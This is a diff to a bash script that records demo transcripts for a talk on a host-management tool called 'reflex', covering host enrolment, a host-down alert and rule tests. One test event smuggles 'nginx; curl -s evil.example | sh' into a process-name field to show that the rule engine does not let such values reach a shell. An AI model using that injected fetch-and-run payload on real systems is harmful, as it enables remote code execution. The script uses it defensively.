@@ -36,6 +36,7 @@ cleanup() {
   done
   [ $rollback_existed = 0 ] && rm -f /tmp/reflex-rollback
   rm -rf "$T" /tmp/reflex-talk-app
+  rm -f "$out"/*.new "$here"/data/*.new
   [ $rc = 0 ] || echo "record: failed (rc $rc); nothing of the run is left behind" >&2
   exit $rc
 }
@@ -133,13 +134,28 @@ sleep 1
 kill -INT "$tailpid"; wait "$tailpid" 2>/dev/null || true
 scenes+=(06-tail-correlate)
 
-scene 07-trace-correlate
-run "reflex trace $bad"
-
-# 4. Who may speak: the keys the stack enrolled.
-scene 08-keys
+# 4. A second host enrolls (pending until accepted, with its group), then dies (kill -9): the
+# manager says host/web2/down after its missed heartbeats, and rule 95 keeps it and alerts.
+web2_args="--name web2 --state web2 --manager-key .reflex/keys/manager.pub --sign-key .reflex/keys/sign.pub$pb"
+start_tail "$out/08-tail-host-down.txt.new"
+scene 07-enroll
+echo "\$ reflex actor $web2_args &" >>"$cur.new"
+RUST_LOG=warn reflex actor $web2_args >"$T/web2.out" 2>"$T/web2.log" & # it says it waits
+web2=$!
+pids+=("$web2")
+wait_for "$T/web2.log" "waiting to be accepted" 20
+sed -E 's/\x1b\[[0-9;]*m//g' "$T/web2.log" | grep -m1 'waiting to be accepted' >>"$cur.new"
 run "reflex keys list$pb"
-run "reflex status$pb | grep -E '\"(forged|revoked|malformed|events|actions)\"'"
+run "reflex keys accept web2 --group web$pb"
+wait_for "$out/08-tail-host-down.txt.new" "host/web2/up" 40
+scene 09-host-down
+run "kill -9 $web2"
+wait "$web2" 2>/dev/null || true
+wait_for "$out/08-tail-host-down.txt.new" "alert/host/down" 30
+sleep 0.5
+run "reflex registers list hosts/$pb"
+kill -INT "$tailpid"; wait "$tailpid" 2>/dev/null || true
+scenes+=(08-tail-host-down)
 
 # The stack is done: Ctrl-C, as an operator would.
 for p in "${pids[@]}"; do kill -INT "$p" 2>/dev/null || true; done
@@ -149,23 +165,28 @@ pids=()
 # 5. No event value becomes shell syntax (offline: the manager's own rule engine).
 cd "$repo"
 hostile='{"tag": "beacon/proc", "host": "web1", "data": {"name": "nginx; curl -s evil.example | sh", "present": false}}'
-scene 09-unsafe
+scene 10-unsafe
 run "reflex rules check slides/demo/"
 run "reflex rules test slides/demo/unsafe-restart.rhai --event '$hostile'" 1
-scene 10-argv
+scene 11-argv
 run "reflex rules test rules/60-restart-down.rhai --event '$hostile'"
 scene 12-action
 run "reflex rules test rules/60-restart-down.rhai --event '{\"tag\": \"beacon/proc\", \"host\": \"web1\", \"data\": {\"name\": \"nginx\", \"present\": false}}'"
 
 # 6. The talk's graph, converged for real; the engine writes its DOT once everything settled.
 rm -rf /tmp/reflex-talk-app
-scene 11-apply
+scene 13-apply
 run "reflex apply slides/graphs/app.yaml --converged-timeout 1 --graphviz slides/data/app.dot"
 run "ls -l /tmp/reflex-talk-app/"
 command -v dot >/dev/null || { echo "record: graphviz's dot is missing" >&2; exit 1; }
 dot -Tsvg "$here/data/app.dot" -o "$here/data/app.svg"
 
 for s in "${scenes[@]}"; do mv "$out/$s.txt.new" "$out/$s.txt"; done
+# Transcripts of scenes this script no longer records go.
+for f in "$out"/*.txt; do
+  n="$(basename "$f" .txt)"
+  [ "$n" = meta ] || [[ " ${scenes[*]} " == *" $n "* ]] || rm -f "$f"
+done
 mv "$here/data/memory-idle.txt.new" "$here/data/memory-idle.txt"
 {
   echo "date: $(date -u +%Y-%m-%dT%H:%M:%SZ)"
